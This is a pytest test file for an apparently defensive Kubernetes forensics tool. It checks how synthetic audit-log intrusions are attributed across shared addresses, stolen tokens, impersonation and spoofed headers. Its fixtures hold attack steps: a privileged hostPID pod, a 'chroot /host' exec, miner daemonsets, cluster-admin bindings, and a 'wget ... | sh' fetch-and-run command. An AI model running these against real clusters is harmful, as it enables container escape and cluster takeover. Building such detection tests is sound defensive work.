"""Claims about who is the intruder and who is not: shared addresses, stolen credentials, borrowed names."""

from __future__ import annotations

import binascii
from typing import Any

import pytest

from kubewitness.model.document import Document
from kubewitness.model.incident import Incident
from tests.incident.conftest import Investigate
from tests.incident.logs import (
    CONTROL_PLANE,
    DOOR,
    KUBECTL,
    MASTERS,
    OFFICE,
    Log,
    account,
    allowed_by,
    binding,
    daemonset,
)
from tests.incident.test_intrusions import anonymous_intrusion, open_the_door

INTRUDER = "203.0.113.77"
MINER = daemonset("kube-controller", "docker.io/kubrnetesio/kube-controller:1.0.1")
POD = {"kind": "Pod", "metadata": {"name": "run"}, "spec": {"hostPID": True, "containers": [
    {"name": "c", "image": "alpine", "securityContext": {"privileged": True}}]}}  # fmt: skip


@pytest.fixture
def log() -> Log:
    log = Log()
    log.quiet_day()
    return log


def only(document: Document) -> Incident:
    assert len(document.incidents) == 1, [incident.title.en for incident in document.incidents]
    return document.incidents[0]


def anonymous(log: Log, address: str = INTRUDER, at: str = "13:00", **more: Any) -> list[str]:
    """Reads all secrets, then starts a privileged pod."""
    by: dict[str, Any] = {"by": "system:anonymous", "address": address, "agent": "curl/8.5.0", "reason": DOOR}
    return [
        log.request("list", "secrets", at=at, **by, **more),
        log.request("create", "pods", at=at + ":30", namespace="default", name="run", body=POD, **by, **more),
    ]


def test_an_employee_behind_the_same_address_is_not_the_intruder(log: Log, judged: Investigate) -> None:
    """One NAT address: jane has worked from it all day, the intruder comes through it at one o'clock."""
    work = [
        log.request(verb, "pods", at=f"{hour:02}:{minute:02}", by="jane", namespace="shop", address=INTRUDER)
        for hour in range(7, 18)
        for verb, minute in (("list", 5), ("get", 25), ("list", 45))
    ]
    own = anonymous(log)
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(own)
    assert not set(work) & set(incident.audit_ids)
    assert incident.actors[0].identities == ("system:anonymous",)


def test_an_address_that_everybody_shares_glues_nobody_together(log: Log, judged: Investigate) -> None:
    """A proxy in front of the API server: ten people and two intruders with one address. All come late in the day."""
    proxy = "10.0.0.200"
    others = [
        log.request("list", "pods", at=f"12:{50 + number % 10}", by=f"user-{number}", namespace="shop", address=proxy)
        for number in range(10)
    ]
    own = anonymous(log, proxy)
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(own)
    assert not set(others) & set(incident.audit_ids)


def test_a_node_in_whose_name_an_anonymous_request_is_checked_is_no_suspect(log: Log, judged: Investigate) -> None:
    """What comes from an address of the cluster itself proves nothing about the cluster's own components there."""
    own = anonymous(log, CONTROL_PLANE)
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(own)
    assert incident.actors[0].identities == ("system:anonymous",)


def test_a_stolen_service_account_token_is_the_cause_and_the_workload_keeps_its_requests(
    log: Log, judged: Investigate
) -> None:
    """A pod's token, taken out of it, is used with kubectl from the Internet."""
    web = account("shop", "web")
    by: dict[str, Any] = {"by": web, "address": INTRUDER, "agent": KUBECTL,
          "reason": allowed_by("web-admin", "ClusterRole cluster-admin", "ServiceAccount web/shop"),
          "extra": {"authentication.kubernetes.io/credential-id": ["JTI=7f1c"]}}  # fmt: skip
    honest = [
        log.request(
            "list", "endpoints", at=f"{hour:02}:10", by=web, address="10.0.1.7", agent="web/1.0", namespace="shop"
        )
        for hour in range(6, 20)
    ]
    own = [
        log.request("create", "selfsubjectrulesreviews", at="14:00", body={"spec": {"namespace": "default"}}, **by),
        log.request("list", "secrets", at="14:00:10", **by),
        log.request("create", "pods", at="14:01", namespace="default", name="run", body=POD, **by),
        log.request("create", "pods", at="14:02", namespace="default", name="run", subresource="exec", code=101,
                    query="?command=sh&command=-c&command=chroot+%2Fhost&container=c&stdin=true", **by),
    ]  # fmt: skip
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(own)
    assert not set(honest) & set(incident.audit_ids)
    assert [(cause.kind, cause.name) for cause in incident.root_causes] == [
        ("Credential", web), ("ClusterRoleBinding", "web-admin")]  # fmt: skip
    assert incident.root_causes[0].subject == "JTI=7f1c"
    assert incident.actors[0].credentials == ("JTI=7f1c",)
    assert ("shop", "web") in {(secret.namespace, secret.name) for secret in incident.secrets}
    assert [step.command for step in incident.steps if step.command] == ["sh -c chroot /host"]


def test_a_leaked_kubeconfig_is_told_from_its_owner_by_the_network(log: Log, judged: Investigate) -> None:
    """Bob works from the office all day; at three somebody uses his credential from another country."""
    honest = [
        log.request("list", "deployments", at=f"{hour:02}:{minute:02}", by="bob", namespace="shop", address=OFFICE)
        for hour in range(7, 18)
        for minute in (3, 33)
    ]
    reason = allowed_by("bob-admin", "ClusterRole cluster-admin", "User bob")
    by: dict[str, Any] = {"by": "bob", "address": INTRUDER, "agent": "python-requests/2.31", "reason": reason}
    own = [
        log.request("list", "secrets", at="15:00", **by),
        log.request("create", "clusterrolebindings", at="15:01", name="x", **by,
                    body=binding("x", "cluster-admin", "ServiceAccount default/default")),
        log.request("create", "daemonsets", at="15:02", namespace="kube-system", name="kube-controller", **by,
                    body=MINER),
    ]  # fmt: skip
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(own)
    assert not set(honest) & set(incident.audit_ids)
    assert (incident.root_causes[0].kind, incident.root_causes[0].name) == ("Credential", "bob")
    assert incident.entry_point is not None
    assert incident.entry_point.address == INTRUDER


def test_an_account_the_intruder_made_is_followed_to_another_address(log: Log, judged: Investigate) -> None:
    by: dict[str, Any] = {"by": "system:anonymous", "address": INTRUDER, "agent": "curl/8.5.0", "reason": DOOR}
    mole, elsewhere = account("kube-system", "metrics"), "192.0.2.200"
    armed = allowed_by("metrics", "ClusterRole cluster-admin", "ServiceAccount metrics/kube-system")
    own = [
        log.request("create", "serviceaccounts", at="13:00", namespace="kube-system", name="metrics",
                    body={"metadata": {"name": "metrics"}}, **by),
        log.request("create", "clusterrolebindings", at="13:00:10", name="metrics",
                    body=binding("metrics", "cluster-admin", "ServiceAccount kube-system/metrics"), **by),
        log.request("create", "serviceaccounts", at="13:00:20", namespace="kube-system", name="metrics",
                    subresource="token", **by),
        log.request("list", "nodes", at="17:00", by=mole, address=elsewhere, agent=KUBECTL, reason=armed),
        log.request("create", "daemonsets", at="17:01", namespace="kube-system", name="kube-controller", body=MINER,
                    by=mole, address=elsewhere, agent=KUBECTL, reason=armed),
    ]  # fmt: skip
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(own)
    assert incident.actors[0].addresses == (INTRUDER, elsewhere)
    assert incident.actors[0].identities == ("system:anonymous", mole)
    assert any(elsewhere in why.en and "the intruder had" in why.en for why in incident.actors[0].why)
    assert [cause.name for cause in incident.root_causes] == ["anonymous-admin"]  # what it made itself is no cause


def test_of_a_partly_shared_identity_only_the_acts_that_rules_matched_are_attributed(
    log: Log, judged: Investigate
) -> None:
    """The owner works with the same name, address and program: a session taken over on his own machine."""
    reason = allowed_by("carol-admin", "ClusterRole cluster-admin", "User carol")
    by: dict[str, Any] = {"by": "carol", "address": "10.0.3.3", "agent": KUBECTL, "reason": reason}
    honest = [
        log.request("list", "pods", at=f"{hour:02}:{minute:02}", namespace="shop", **by)
        for hour in range(6, 20)
        for minute in (1, 21, 41)
    ]
    own = [
        log.request("create", "daemonsets", at="15:02", namespace="kube-system", name="kube-controller", **by,
                    body=MINER),
    ]  # fmt: skip
    incident = only(judged(log))
    assert set(own) <= set(incident.audit_ids)
    assert not set(honest) & set(incident.audit_ids)
    assert any("only the acts that rules matched are attributed" in why.en for why in incident.actors[0].why)


def test_addresses_a_client_claims_are_told_but_are_no_fact(log: Log, judged: Investigate) -> None:
    """X-Forwarded-For can hold anything: the office's address is claimed, the peer's is the last one."""
    own = anonymous(log, forwarded=[OFFICE, "127.0.0.1"])
    incident = only(judged(log))
    assert incident.actors[0].addresses == (INTRUDER,)
    assert set(incident.actors[0].claimed_addresses) == {OFFICE, "127.0.0.1"}
    assert set(incident.audit_ids) == set(own)
    assert any("X-Forwarded-For" in text.en for text in incident.limitations)


def test_a_credential_of_the_masters_is_said_to_be_beyond_rbac(log: Log, judged: Investigate) -> None:
    by: dict[str, Any] = {"by": "kubernetes-admin", "groups": MASTERS, "address": INTRUDER, "agent": "curl/8.5.0"}
    own = [
        log.request("list", "secrets", at="15:00", **by),
        log.request("create", "clusterrolebindings", at="15:00:30", name="x", **by,
                    body=binding("x", "cluster-admin", "User system:anonymous")),
        log.request("create", "daemonsets", at="15:02", namespace="kube-system", name="kube-controller", **by,
                    body=MINER),
    ]  # fmt: skip
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(own)
    (cause,) = incident.root_causes
    assert (cause.kind, cause.name) == ("Credential", "kubernetes-admin")
    assert "system:masters" in cause.description.en
    assert "system:masters" in cause.description.zh


def test_where_the_authorizer_gave_no_reason_a_setting_is_the_cause(log: Log, judged: Investigate) -> None:
    """AlwaysAllow: anonymous is let in and no binding is named."""
    own = [
        log.request("list", "secrets", at="13:00", by="system:anonymous", address=INTRUDER, annotations=None),
        log.request("create", "pods", at="13:01", by="system:anonymous", address=INTRUDER, annotations=None,
                    namespace="default", name="run", body=POD),
    ]  # fmt: skip
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(own)
    assert [(cause.kind, cause.subject) for cause in incident.root_causes] == [("Setting", "User system:anonymous")]


def test_a_role_binding_is_named_with_its_namespace(log: Log, judged: Investigate) -> None:
    made = log.admin("create", "rolebindings", at="08:00", namespace="shop", name="open", body=binding(
        "open", "admin", "User system:anonymous", namespace="shop"))  # fmt: skip
    log.admin("create", "rolebindings", at="08:01", namespace="other", name="open", body=binding(
        "open", "view", "User dave", namespace="other"))  # fmt: skip
    by: dict[str, Any] = {"by": "system:anonymous", "address": INTRUDER, "agent": "curl/8.5.0",
          "reason": allowed_by("open", "ClusterRole admin", "User system:anonymous", namespace="shop")}  # fmt: skip
    log.request("list", "secrets", at="13:00", namespace="shop", **by)
    log.request("create", "pods", at="13:01", namespace="shop", name="run", body=POD, **by)
    (cause,) = only(judged(log)).root_causes
    assert (cause.kind, cause.namespace, cause.name) == ("RoleBinding", "shop", "open")
    assert cause.created_by == "kubernetes-admin"
    assert made in {evidence.audit_id for evidence in cause.evidence}


def test_an_impersonated_name_is_not_the_one_who_acted(log: Log, judged: Investigate) -> None:
    """With kubectl --as the intruder is who authenticated, not whom it pretended to be."""
    own = anonymous(log, impersonatedUser={"username": "jane", "groups": ["system:masters"]})
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(own)
    assert incident.actors[0].identities == ("system:anonymous",)


def test_a_borrowed_audit_id_hides_nothing(judged: Investigate) -> None:
    """A client may choose the Audit-ID: one that a probe had before must not make an attack a duplicate of it."""
    told: list[list[str]] = []
    for borrowed in (False, True):
        log = Log()
        log.quiet_day()
        open_the_door(log)
        own = anonymous_intrusion(log)
        probe = log.request("get", at="09:00", by="system:anonymous", address=INTRUDER, uri="/healthz")
        if borrowed:
            for event in log.events:
                event["auditID"] = probe if event["auditID"] in own else event["auditID"]
        (incident,) = judged(log).incidents
        told.append([step.description.en for step in incident.steps])
        assert any("auditIDs stand for" in text.en for text in incident.limitations) is borrowed
    assert told[0] == told[1]


def signing_request(user: str) -> dict[str, Any]:
    """A CertificateSigningRequest whose PKCS#10 body is just deep enough to hold a subject."""

    def der(tag: int, content: bytes) -> bytes:
        return bytes((tag, len(content))) + content

    name = der(0x30, der(0x31, der(0x30, der(0x06, b"\x55\x04\x03") + der(0x0C, user.encode()))))
    pem = b"-----BEGIN CERTIFICATE REQUEST-----\n%s-----END CERTIFICATE REQUEST-----\n"
    encoded = pem % binascii.b2a_base64(der(0x30, der(0x30, der(0x02, b"\0") + name)))
    return {
        "kind": "CertificateSigningRequest",
        "metadata": {"name": "node-csr"},
        "spec": {
            "signerName": "kubernetes.io/kube-apiserver-client",
            "usages": ["client auth"],
            "request": binascii.b2a_base64(encoded, newline=False).decode(),
        },
    }


def asks_for_a_certificate(log: Log, user: str) -> list[str]:
    by: dict[str, Any] = {"by": "system:anonymous", "address": INTRUDER, "agent": "curl/8.5.0", "reason": DOOR}
    own = anonymous(log)
    own.append(log.request("create", "certificatesigningrequests", at="13:02", name="node-csr",
                           body=signing_request(user), **by))  # fmt: skip
    return own


def test_a_certificate_asked_for_and_then_used_is_the_same_intruder_even_as_the_controller_manager(
    log: Log, judged: Investigate
) -> None:
    own = asks_for_a_certificate(log, "system:kube-controller-manager")
    for minute, address in ((5, INTRUDER), (9, "203.0.113.200")):
        own.append(log.request("get", "secrets", at=f"13:{minute:02}", by="system:kube-controller-manager", groups=(),
                               address=address, agent=KUBECTL, namespace="shop", name="bank"))  # fmt: skip
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(own)
    assert "system:kube-controller-manager" in incident.actors[0].identities


def test_the_real_controller_manager_is_not_the_intruder_who_took_a_certificate_in_its_name(
    log: Log, judged: Investigate
) -> None:
    """Not where it always was, and not on a second control plane that comes up only after the request."""
    own = asks_for_a_certificate(log, "system:kube-controller-manager")
    for minute in range(10, 30):
        log.request("update", "leases", at=f"13:{minute}", by="system:kube-controller-manager", address="10.0.0.40",
                    agent="kube-controller-manager/v1.31.0 (linux/amd64)", namespace="kube-system",
                    name="kube-controller-manager")  # fmt: skip
    assert set(only(judged(log)).audit_ids) == set(own)


def stolen_account(log: Log, minter: str, agent: str, address: str) -> tuple[list[str], list[str]]:
    """The requests of `minter`, who makes a token, and of an intruder who uses that very token from elsewhere."""
    jti = "JTI=5f012c75-c8c5-4bc4-b077-bcad06720891"
    deployer = account("kube-system", "deployer")
    made = [
        log.request("list", "secrets", at="12:58", by=minter, address=address, agent=agent),
        log.request("create", "serviceaccounts", at="12:59", by=minter, address=address, agent=agent,
                    namespace="kube-system", name="deployer", subresource="token",
                    annotations={"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "",
                                 "authentication.kubernetes.io/issued-credential-id": jti}),
    ]  # fmt: skip
    by: dict[str, Any] = {"by": deployer, "address": INTRUDER, "agent": KUBECTL,
                          "extra": {"authentication.kubernetes.io/credential-id": [jti]}}  # fmt: skip
    used = [
        log.request("list", "secrets", at="13:00", **by),
        log.request("create", "pods", at="13:01", namespace="kube-system", name="run", body=POD, **by),
        log.request(
            "create", "daemonsets", at="13:02", namespace="kube-system", name="kube-controller", body=MINER, **by
        ),
    ]
    return made, used


def test_a_pods_account_worked_by_hand_that_minted_the_intruders_token_is_the_intruder(
    log: Log, judged: Investigate
) -> None:
    made, used = stolen_account(log, account("shop", "front"), "curl/8.5.0", "10.244.1.2")
    incident = only(judged(log))
    assert set(incident.audit_ids) == set(made + used)
    assert incident.entry_point is not None
    assert incident.entry_point.identity == account("shop", "front")


@pytest.mark.parametrize(
    ("minter", "agent", "address"),
    [
        ("kubernetes-admin", KUBECTL, OFFICE),
        (account("vault", "operator"), "vault-operator/1.4 (linux/amd64)", "10.244.2.9"),
        ("system:node:node-a", "kubelet/v1.31.0 (linux/amd64)", "10.0.0.11"),
    ],
)
def test_whose_token_was_stolen_is_not_the_thief(
    log: Log, judged: Investigate, minter: str, agent: str, address: str
) -> None:
    """An administrator, an operator and a kubelet make tokens as a matter of course."""
    made, used = stolen_account(log, minter, agent, address)
    incident = only(judged(log))
    assert set(used) <= set(incident.audit_ids)
    assert not set(made) & set(incident.audit_ids)


@pytest.mark.parametrize(
    ("agent", "minute", "address", "own"),
    [
        ("reconciler/v1.5 (linux/amd64)", 0, "10.244.1.2", True),
        ("reconciler/v1.5 (linux/amd64)", 7, "10.244.1.2", False),
        ("curl/8.5.0", 0, "10.244.1.2", False),
        ("", 0, "10.244.1.2", False),
        ("scanner/0.3", 0, INTRUDER, False),
    ],
    ids=[
        "its program",
        "a program that came after",
        "a person's tool",
        "a client without a name",
        "where a thief may be",
    ],
)
def test_in_a_pod_that_was_taken_over_the_accounts_own_program_is_not_the_intruder(
    judged: Investigate, agent: str, minute: int, address: str, *, own: bool
) -> None:
    """A short log, in which nobody is established; the intruder has the program's address, account and token."""
    log = Log()
    who: dict[str, Any] = {"by": account("gitops", "reconciler"), "address": address}
    log.quiet_day(first=13, last=14)
    at_work = [
        log.request("list", "configmaps", at=f"13:{minute + number:02}:30", agent=agent, **who) for number in range(9)
    ]
    spec = {
        "containers": [{"name": "c", "image": "alpine", "command": ["sh", "-c", "wget -qO- http://203.0.113.9/x|sh"]}]
    }
    body = {"kind": "Pod", "metadata": {"name": "run", "namespace": "shop"}, "spec": spec}
    deed = log.request("create", "pods", at="13:04", agent="python-requests/2.32", namespace="shop", name="run",
                       body=body, **who)  # fmt: skip
    incident = only(judged(log))
    assert deed in incident.audit_ids
    assert (set(at_work) & set(incident.audit_ids) == set()) is own
    assert any("the account's own program" in sentence.en for sentence in incident.actors[0].why) is own
